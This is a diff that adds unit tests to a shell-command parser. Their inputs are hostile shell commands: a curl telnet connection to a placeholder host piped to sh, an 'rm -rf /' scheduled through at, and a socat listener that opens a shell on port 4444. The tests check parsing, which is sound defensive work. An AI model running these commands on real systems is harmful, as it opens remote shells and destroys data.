@@ -97,3 +97,16 @@ def test_parse_is_fast() -> None:
     for _ in range(200):
         parse_shell(cmd)
     assert (time.perf_counter() - t0) / 200 < 0.005
+
+
+def test_unquoted_variables_split_and_quoted_ones_do_not() -> None:
+    p = parse_shell("C='curl -Ns telnet://h:1'; $C | sh; a='x y'; echo \"$a\"")
+    argvs = [c.argv for c in p.commands]
+    assert ["curl", "-Ns", "telnet://h:1"] in argvs
+    assert ["echo", "x y"] in argvs
+
+
+def test_at_jobs_and_adjacent_pieces() -> None:
+    assert "rm -rf /" in lines("echo 'rm -rf /' | at now + 1 minute")
+    p = parse_shell("socat file:`tty`,raw,echo=0 tcp-listen:4444")
+    assert p.commands[-1].argv == ["socat", "file:`tty`,raw,echo=0", "tcp-listen:4444"]
